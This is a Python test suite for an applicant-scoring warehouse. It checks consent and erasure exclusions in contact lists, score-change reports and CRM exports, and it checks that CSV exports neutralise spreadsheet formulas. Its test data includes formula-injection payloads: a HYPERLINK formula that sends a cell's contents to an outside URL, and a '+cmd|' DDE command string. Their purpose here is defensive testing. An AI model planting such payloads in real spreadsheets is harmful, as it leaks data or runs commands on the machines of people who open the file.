"""Acted on: whom to contact, what changed and what the CRM is told, over builds of two days.

The first one knows clones of an applicant of whom nothing forbids anything. By the second one has
refused contact, one objects, one is decided, one erased, and so on: each case is planted once.
"""

from __future__ import annotations

import csv
import datetime
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest
from warehouse import ROOT, Warehouse, build, copied_sample, run_dbt

from applicant_personas.cli import main
from applicant_personas.export import export, read_record
from applicant_personas.spreadsheet import csv_text, safe_text

FIRST_DAY, SECOND_DAY = "2026-05-10", "2026-05-15"
MODEL_PERSON = "P1814"
MODELS = ["+rpt_contact_list", "+rpt_crm_export", "+rpt_score_changes"]
OF_PERSONS = {
    "persons": None, "applications": "application_id", "test_scores": "score_id",
    "education_records": "education_id", "interactions": "interaction_id",
}  # fmt: skip
FORMULA = '=HYPERLINK("http://example.org/?"&A1;"Physics")'
Tables = dict[str, pd.DataFrame]


# --- what is planted ------------------------------------------------------------------------------


def happens(stage: str, application: str = "") -> Callable[[Tables, str], None]:
    """Plant a stage that is reached between the two days."""

    def change(tables: Tables, name: str) -> None:
        event = {"application_id": f"{name}{application}", "stage": stage}
        event["occurred_at"] = "2026-05-13 09:00"
        tables["stage_events"].loc[len(tables["stage_events"])] = event

    return change


def says(column: str, value: str) -> Callable[[Tables, str], None]:
    """Plant a value of the person's record."""

    def change(tables: Tables, name: str) -> None:
        persons = tables["persons"]
        persons.loc[persons["person_id"] == f"p-{name}", column] = value

    return change


def is_listed_for_erasure(tables: Tables, name: str) -> None:
    tables["erasure_list"] = pd.DataFrame({"person_id": [f"p-{name}"]})


def is_missing(tables: Tables, name: str) -> None:
    for table in OF_PERSONS:
        tables[table] = tables[table][tables[table]["person_id"] != f"p-{name}"]


def refuses_by_a_merged_record(tables: Tables, name: str) -> None:
    persons = tables["persons"]
    alias = persons[persons["person_id"] == f"p-{name}"].assign(
        person_id="p-alias", merged_into_person_id=f"p-{name}", can_contact="0"
    )
    tables["persons"] = pd.concat([persons, alias], ignore_index=True)


# By the second day they may be in no list.
EXCLUDED = {
    "refuses": says("can_contact", "0"),
    "silent": says("can_contact", ""),
    "refuses-once": refuses_by_a_merged_record,
    "objects": says("profiling_objection", "1"),
    "withdrawn": happens("withdrawn"),
    "denied": happens("denied"),
    "enrolled": happens("enrolled"),
    "enrolled-elsewhere": happens("enrolled", "-b"),
    "erased": is_listed_for_erasure,
    "deleted": says("is_deleted", "1"),
    "test": says("is_test", "1"),
    "missing": is_missing,
}
FORGOTTEN = {"objects", "erased", "deleted", "test", "missing"}
STAY = ["plain", "moves"]
CLONES = [*STAY, *EXCLUDED]


def planted() -> Tables:
    """Give the sample with clones of an applicant, a formula among the names of programs."""
    tables = {
        path.stem: pd.read_csv(path, dtype=str, keep_default_na=False)
        for path in (ROOT / "seeds/sample").glob("*.csv")
    }
    applications, events = tables["applications"], tables["stage_events"]
    (model,) = applications.loc[applications["person_id"] == MODEL_PERSON, "application_id"]
    model_events = events[events["application_id"] == model]
    for place, name in enumerate(CLONES):
        for table, key in OF_PERSONS.items():
            own = tables[table][tables[table]["person_id"] == MODEL_PERSON]
            own = own.assign(person_id=f"p-{name}")
            if key:
                own[key] = name if table == "applications" else name + own[key]
            else:
                # Not the same human.
                own["created_at"] = f"2025-10-01 10:{place:02}:00"
            tables[table] = pd.concat([tables[table], own], ignore_index=True)
        tables["stage_events"] = pd.concat(
            [tables["stage_events"], model_events.assign(application_id=name)], ignore_index=True
        )
    other = tables["applications"].query("application_id == 'enrolled-elsewhere'")
    other = other.assign(application_id="enrolled-elsewhere-b", program_code="PHY")
    other_events = model_events.assign(application_id="enrolled-elsewhere-b")
    tables["applications"] = pd.concat([tables["applications"], other], ignore_index=True)
    tables["stage_events"] = pd.concat([tables["stage_events"], other_events], ignore_index=True)
    programs = tables["programs"]
    hostile = programs[:1].assign(program_code="PHY", program_name=FORMULA)
    tables["programs"] = pd.concat([programs, hostile], ignore_index=True)
    is_plain = tables["applications"]["application_id"] == "plain"
    tables["applications"].loc[is_plain, "program_code"] = "PHY"
    return tables


def write(tables: Tables, folder: Path) -> Path:
    folder.mkdir(exist_ok=True)
    for name, table in tables.items():
        table.to_csv(folder / f"{name}.csv", index=False)
    return folder


# --- the builds -----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Days:
    """The likelihoods and lists of the first day, and the warehouse after the second."""

    first: pd.DataFrame
    first_contacts: set[str]
    warehouse: Warehouse
    exports: Path

    @property
    def second(self) -> pd.DataFrame:
        return self.warehouse.frame(SCORES)


SCORES = (
    "select application_id, outcome_stage, phase, probability, persona_key, run_id"
    " from marts.fct_enrollment_scores where outcome is null"
)


@pytest.fixture(scope="module")
def days(tmp_path_factory: pytest.TempPathFactory) -> Days:
    """Build two days on the stored models of the sample; the second one keeps nothing but them."""
    folder = tmp_path_factory.mktemp("acting")
    warehouse = copied_sample(folder)
    tables = planted()
    source = write(tables, folder / "input")
    build(folder, source, select=MODELS, as_of=FIRST_DAY)
    first = warehouse.frame(SCORES)
    first_contacts = set(warehouse.column("select application_id from marts.rpt_contact_list"))
    for name, change in EXCLUDED.items():
        change(tables, name)
    happens("admitted")(tables, "moves")
    write(tables, source)
    shutil.rmtree(folder / "target")
    run_dbt(
        folder, "build", "--full-refresh", "--exclude-resource-type", "test", "unit_test",
        "--threads", "2", "--select", *MODELS, as_of=SECOND_DAY, input_path=str(source),
        export_path=str(folder / "exports"),
    )  # fmt: skip
    exports = folder / "exports"
    for name in ("contact_list", "score_changes", "crm"):
        assert write_list(name, warehouse, exports) == 0
    return Days(first, first_contacts, warehouse, exports)


def write_list(name: str, warehouse: Warehouse, folder: Path) -> int:
    database = str(warehouse.database)
    return main(["export", name, "--database", database, "--folder", str(folder)])


def read_csv(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, encoding="utf-8-sig")


# --- whom one may contact -------------------------------------------------------------------------


def test_who_refuses_objects_is_decided_erased_or_deleted_is_in_no_list(days: Days) -> None:
    assert set(CLONES) <= days.first_contacts
    contacts = set(days.warehouse.column("select application_id from marts.rpt_contact_list"))
    assert set(STAY) <= contacts
    assert not contacts & {*EXCLUDED, "enrolled-elsewhere-b"}
    told = set(days.warehouse.column("select application_id from marts.rpt_crm_export"))
    assert told == contacts


def test_no_file_that_is_exported_holds_them(days: Days) -> None:
    files = [*days.exports.glob("*.csv")]
    assert len(files) == 4
    for file in files:
        text = file.read_text()
        assert not [name for name in EXCLUDED if f"p-{name}," in text or f"\n{name}," in text]
    contacts = read_csv(days.exports / "contact_list.csv")
    assert set(STAY) <= set(contacts["application_id"])
    assert contacts["can_contact"].all()


def test_the_middle_of_the_scale_comes_first(days: Days) -> None:
    listed = days.warehouse.frame("select * from marts.rpt_contact_list order by contact_rank")
    assert (listed["probability"] - 0.5).abs().round(9).is_monotonic_increasing
    assert set(listed["phase"]) == {"applied", "admitted", "deposited"}
    assert listed["program_name"].eq(FORMULA).sum() == 1
    assert listed[["persona_name", "band", "reason_1", "stage"]].notna().all(axis=None)
    by_person = listed.groupby("person_id")["person_rank"]
    assert (by_person.min() == 1).all()
    assert (by_person.max() == by_person.size()).all()
    assert by_person.size().max() > 1


def test_days_since_the_last_touch_are_those_of_the_files(days: Days) -> None:
    listed = days.warehouse.frame("select * from marts.rpt_contact_list").set_index("person_id")
    touches = days.warehouse.frame(
        "select person_id, max(cast(occurred_at as date)) as last_on"
        f" from staging.stg_interactions where weight > 0 and known_at < '{SECOND_DAY} 24:00'"
        f" and occurred_at <= '{SECOND_DAY} 23:59:59' group by person_id"
    ).set_index("person_id")["last_on"]
    days_ago = (pd.Timestamp(SECOND_DAY) - touches).dt.days.reindex(listed.index)
    assert days_ago.notna().sum() > 400
    assert (listed["days_since_last_touch"].fillna(-1) == days_ago.fillna(-1)).all()


# --- what changed ---------------------------------------------------------------------------------


def test_each_day_is_remembered_and_nobody_who_is_gone(days: Days) -> None:
    history = days.warehouse.frame("select * from marts.fct_score_history")
    assert set(history["as_of"].astype(str)) == {FIRST_DAY, SECOND_DAY}
    by_day = {str(day)[:10]: set(part["application_id"]) for day, part in history.groupby("as_of")}
    assert by_day[SECOND_DAY] == set(days.second["application_id"])
    assert by_day[FIRST_DAY] == set(days.first["application_id"]) - FORGOTTEN
    assert not [name for name in FORGOTTEN if f"p-{name}" in set(history["person_id"])]


def test_changes_are_the_difference_of_the_two_days(days: Days) -> None:
    key = ["application_id", "outcome_stage"]
    first = days.first[~days.first["application_id"].isin(FORGOTTEN)]
    both = first.merge(days.second, on=key, how="outer", suffixes=("_then", "_now"))
    change = (both["probability_now"] - both["probability_then"]).round(9)
    expected = both[change.isna() | (change.abs() >= 0.05)].sort_values(key, ignore_index=True)
    found = days.warehouse.frame("select * from marts.rpt_score_changes").sort_values(
        key, ignore_index=True
    )
    assert (change.abs() < 0.05).any()
    assert set(found["direction"]) == {"rose", "fell", "entered", "left"}
    pairs = {
        "application_id": "application_id",
        "from_probability": "probability_then", "to_probability": "probability_now",
        "from_phase": "phase_then", "to_phase": "phase_now",
        "from_persona_key": "persona_key_then", "to_persona_key": "persona_key_now",
    }  # fmt: skip
    for name, other in pairs.items():
        pd.testing.assert_series_equal(found[name], expected[other], check_names=False)
    assert set(found["compared_as_of"].astype(str)) == {FIRST_DAY}


def test_why_says_what_happened_since_and_no_model_was_fitted_anew(days: Days) -> None:
    found = days.warehouse.frame("select * from marts.rpt_score_changes").set_index(
        "application_id"
    )
    assert not found["is_refit"].dropna().astype(bool).any()
    assert found.loc["moves", "news"] == "admitted, portal login"
    assert found.loc["moves", ["from_phase", "to_phase"]].tolist() == ["applied", "admitted"]
    assert found.loc["withdrawn", "direction"] == "left"
    assert found.loc["withdrawn", "why"] == "Since then: withdrawn, portal login."
    assert "plain" not in found.index


# --- what is exported -----------------------------------------------------------------------------


def test_what_was_exported_goes_out_again_when_it_changed_and_not_before(days: Days) -> None:
    """A second export is empty, and so is the mart after the next build; then three rows change."""
    record = days.exports / "crm_exported.csv"
    told = read_csv(next(days.exports.glob("crm_2*.csv")))
    at = datetime.datetime(2030, 1, 1)
    of_sample = ("crm", days.warehouse.database, "marts", days.exports)
    assert len(told) == len(read_record(record)) > 400
    assert export(*of_sample, at).endswith(f"0 rows new or changed, as known on {SECOND_DAY}.")
    assert read_csv(days.exports / "crm_20300101T000000Z.csv").empty
    assert len(read_record(record)) == len(told)
    lines = list(csv.reader(record.open()))
    moved = {"plain": 0.05, "moves": 0.01}
    (code,) = days.warehouse.column("select md5('A0001')")
    by_code = {days.warehouse.column(f"select md5('{name}')")[0]: by for name, by in moved.items()}
    for line in lines[1:]:
        line[2] = str(round(float(line[2]) - by_code.get(line[0], 0), 2))
    kept = [line for line in lines if line[0] != code]
    assert len(kept) == len(lines) - 1
    record.write_text("\n".join(",".join(line) for line in kept) + "\n")
    build(
        days.warehouse.database.parent, days.warehouse.database.parent / "input",
        select=["rpt_crm_export"], as_of=SECOND_DAY, export_path=str(days.exports),
    )  # fmt: skip
    changed = days.warehouse.frame("select application_id, changed from marts.rpt_crm_export")
    assert dict(changed.to_numpy()) == {"plain": "likelihood", "A0001": "new"}
    export(*of_sample, at.replace(year=2031))
    again = read_csv(days.exports / "crm_20310101T000000Z.csv")
    assert set(again["application_id"]) == {"plain", "A0001"}


def test_of_whom_is_no_longer_listed_the_record_knows_nothing(days: Days) -> None:
    record = days.exports / "crm_exported.csv"
    lines = record.read_text()
    gone = days.warehouse.column("select md5('withdrawn')")[0]
    record.write_text(f"{lines}{gone},x,0.4,2026-05-10 10:00:00\nnonsense\n")
    assert gone in read_record(record)
    export("crm", days.warehouse.database, "marts", days.exports, datetime.datetime(2032, 1, 1))
    assert record.read_text() == lines


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_runs_as_a_formula_and_numbers_stay_numbers(days: Days, delimiter: str) -> None:
    for name in ("contact_list.csv", "score_changes.csv"):
        with (days.exports / name).open(encoding="utf-8-sig", newline="") as file:
            cells = {cell for line in csv.reader(file, delimiter=delimiter) for cell in line}
        suspects = [cell for cell in cells if cell.strip(" '\"\t").startswith(tuple("=+-@"))]
        running = [cell for cell in suspects if not cell.startswith("'") and not is_number(cell)]
        assert not running
    listed = read_csv(days.exports / "contact_list.csv")
    assert listed["program_name"].str.startswith("'=HYPERLINK").sum() == 1
    changes = read_csv(days.exports / "score_changes.csv")
    assert changes["change"].min() < 0 < changes["change"].max()
    assert listed["probability"].dtype == changes["change"].dtype == float


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@sum(a1)", "'@sum(a1)"),
        ("\t=1", "' =1"),
        ("\r\n=1", "' =1"),
        ('"=1"', '\'"=1"'),
        ("  '=1", "'  '=1"),
        ("\ufeff\u200b=1", "'\ufeff\u200b=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Smith;=1+1", "Smith;'=1+1"),
        ("a\tb\x00c", "a b c"),
        ("-1", "-1"),
        ("+4.5", "+4.5"),
        ("-", "'-"),
        ("Campus-visiting (raises)", "Campus-visiting (raises)"),
        ("", ""),
    ],
)
def test_what_begins_a_formula_gets_an_apostrophe(text: str, safe: str) -> None:
    assert safe_text(text) == safe


def test_cells_keep_their_kind() -> None:
    rows = [[-0.5, 3, True, None, datetime.date(2026, 5, 1), 'a "b", c']]
    assert csv_text([*"abcdef"], rows) == (
        "\ufeffa,b,c,d,e,f\r\n-0.5,3,true,,2026-05-01,\"a \"\"b\"\", c\"\r\n"
    )  # fmt: skip


def test_what_can_not_be_exported_is_a_sentence(
    days: Days, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert write_list("crm", Warehouse(tmp_path / "none.duckdb"), tmp_path) == 2
    assert "There is no database at" in capsys.readouterr().err
    database = ["--database", str(days.warehouse.database), "--folder", str(tmp_path)]
    assert main(["export", "crm", "--schema", "other", *database]) == 2
    assert "has no marts in a schema other" in capsys.readouterr().err
    assert not list(tmp_path.iterdir())
